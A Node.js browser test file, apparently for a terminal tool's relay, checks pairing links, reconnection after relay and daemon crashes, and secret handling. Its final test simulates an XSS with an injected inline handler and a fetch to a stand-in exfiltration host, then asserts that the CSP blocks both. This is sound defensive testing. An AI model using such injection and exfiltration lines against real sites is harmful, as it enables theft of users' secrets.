// The browser through the relay: the page opened from a `limpet pair` link is served by
// the relay and talks to the daemon end to end encrypted. Reload, the relay killed mid-session and
// the daemon restarted: the tab comes back each time with the output produced meanwhile, once.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import {
  countOccurrences, launchBrowser, newPage, openFirstTerminal, screenshot, snapshot, typeInTerminal, waitForLiveTab, waitForPrompt,
  waitForScreen, waitForSnapshot,
} from './support/browser.mjs';
import { Daemon } from './support/daemon.mjs';
import { Relay, pairingLink } from './support/relay.mjs';

let relay;
let daemon;
let browser;
let page;
let link;

async function awaitUplink(state) {
  for (let i = 0; i < 300; i++) {
    const s = await daemon.api('/api/status').catch(() => null);
    if (s?.relay?.state === state) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`the daemon's uplink never became ${state}`);
}

before(async () => {
  relay = await new Relay().start();
  daemon = new Daemon();
  relay.enrol(daemon.dataRoot);
  daemon.extraArgs = ['--relay', `${relay.origin}/`];
  await daemon.start();
  await awaitUplink('connected');
  link = pairingLink(daemon.dataRoot);
  browser = await launchBrowser();
  page = await newPage(browser);
  await page.goto(link);
  await openFirstTerminal(page);
});

after(async () => {
  await browser?.close();
  await daemon?.cleanup();
  await relay?.cleanup();
});

test('the pairing link opens the UI through the relay and the secret leaves the address bar', async () => {
  assert.match(link, /\/h\/[a-z2-7]{26}#[A-Za-z0-9_-]{43}$/);
  const url = new URL(page.url());
  assert.equal(url.origin, relay.origin, 'the page comes from the relay');
  assert.equal(url.hash, '', 'the secret is not left in the URL');
  assert.match(url.pathname, /\/h\/[a-z2-7]{26}\/$/);
  await page.locator('.meta', { hasText: 'through relay' }).waitFor({ timeout: 10_000 });
  await page.click('[data-testid=more-button]');
  assert.equal(await page.locator('[data-testid=token-button]').textContent(), 'Forget pairing');
  await page.keyboard.press('Escape');
  const { activeTabId: tabId } = await snapshot(page);
  await waitForPrompt(page, tabId);
  await typeInTerminal(page, 'echo through-the-$((6*7))-relay\n');
  await waitForScreen(page, tabId, 'through-the-42-relay', 'output through the relay');
  await screenshot(page, '60-through-the-relay');
});

test('a reload through the relay keeps the tab and shows output produced meanwhile exactly once', async () => {
  const before = await snapshot(page);
  const tabId = before.activeTabId;
  await typeInTerminal(page, 'echo before-reload; (sleep 2; echo produced-while-away) &\n');
  await waitForScreen(page, tabId, (t) => t.split('\n').some((l) => l.trim() === 'before-reload'), 'the first line');
  await page.reload();
  const after = await waitForLiveTab(page, 1);
  assert.deepEqual(after.tabs.map((t) => t.sessionId), before.tabs.map((t) => t.sessionId));
  // The command line names it too: count the output itself (it may follow the next prompt on its row).
  const outputRows = (t) => countOccurrences(t, 'produced-while-away') - countOccurrences(t, 'echo produced-while-away');
  const screen = await waitForScreen(page, tabId, (t) => outputRows(t) > 0, 'output produced during the reload', 20_000);
  assert.equal(countOccurrences(screen, 'echo before-reload;'), 1, `the command line appears once:\n${screen}`);
  assert.equal(outputRows(screen), 1, `the output appears once:\n${screen}`);
});

test('the relay killed mid-session: the page resumes with what was produced meanwhile, once', async () => {
  const { activeTabId: tabId, tabs } = await snapshot(page);
  const sessionId = tabs[0].sessionId;
  await relay.kill9();
  await waitForSnapshot(page, (s) => s.host !== 'online', 'the page to notice the relay is gone');
  await daemon.api(`/api/sessions/${sessionId}/input`, { method: 'POST', body: JSON.stringify({ data: 'for i in $(seq 1 6); do echo relay-gone-$i; done\n' }) });
  await awaitUplink('waiting');
  await relay.start();
  await awaitUplink('connected');
  await waitForSnapshot(page, (s) => s.host === 'online' && s.tabs[0].phase === 'live', 'the page to reconnect through the relay', 60_000);
  const screen = await waitForScreen(page, tabId, (t) => t.split('\n').some((l) => l.trim() === 'relay-gone-6'), 'output produced while the relay was down', 30_000);
  for (let i = 1; i <= 6; i++) {
    assert.equal(screen.split('\n').filter((l) => l.trim() === `relay-gone-${i}`).length, 1, `relay-gone-${i} once:\n${screen}`);
  }
});

test('the daemon restarted (kill -9): the page comes back through the relay with the session', async () => {
  const { activeTabId: tabId, tabs } = await snapshot(page);
  await daemon.kill9();
  await waitForSnapshot(page, (s) => s.host !== 'online', 'the page to notice the daemon is gone');
  await daemon.start();
  await awaitUplink('connected');
  await waitForSnapshot(page, (s) => s.host === 'online' && s.tabs[0].phase === 'live', 'the page to reconnect', 60_000);
  assert.equal((await snapshot(page)).tabs[0].sessionId, tabs[0].sessionId);
  await typeInTerminal(page, 'echo after-daemon-restart\n');
  await waitForScreen(page, tabId, (t) => t.split('\n').some((l) => l.trim() === 'after-daemon-restart'), 'typing after the restart');
  await screenshot(page, '61-relay-after-daemon-restart');
});

test('the relay-served page keeps the secret for the tab only, under a strict CSP', async () => {
  const secret = link.split('#')[1];
  const stored = await page.evaluate(() => ({
    lasting: Object.keys(localStorage).map((k) => `${k}=${localStorage.getItem(k)}`).join('\n'),
    tab: Object.keys(sessionStorage).map((k) => `${k}=${sessionStorage.getItem(k)}`).join('\n'),
  }));
  assert.ok(!stored.lasting.includes(secret), 'the secret is never in the relay origin\'s localStorage');
  assert.ok(stored.tab.includes(secret), 'this tab keeps it, so a reload reconnects');

  const response = await page.request.get(page.url());
  const csp = response.headers()['content-security-policy'] ?? '';
  for (const directive of ["default-src 'self'", "script-src 'self'", "connect-src 'self'", "frame-ancestors 'none'"]) {
    assert.ok(csp.includes(directive), `${directive} in ${csp}`);
  }
  assert.equal(response.headers()['x-frame-options'], 'DENY');
  // What a script slipped into the page (an XSS, not the relay itself) would try: run inline code, send the secret away.
  const attempts = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onload="window.__inlineRan = 1">');
    const sent = await fetch('http://exfiltrate.invalid/?s=1').then(() => 'sent', () => 'blocked');
    await new Promise((r) => setTimeout(r, 300));
    return { inlineRan: window.__inlineRan === 1, sent, violations };
  });
  assert.equal(attempts.inlineRan, false, 'an inline handler does not run');
  assert.equal(attempts.sent, 'blocked');
  assert.ok(attempts.violations.some((v) => v.startsWith('script-src')), attempts.violations.join(','));
  assert.ok(attempts.violations.some((v) => v.startsWith('connect-src')), attempts.violations.join(','));

  // Another tab of the same browser (same origin, same lasting storage) opening the plain address: no secret.
  const other = await page.context().newPage();
  await other.goto(page.url());
  await other.locator('[data-testid=no-token]').waitFor({ timeout: 10_000 });
  await other.close();
});
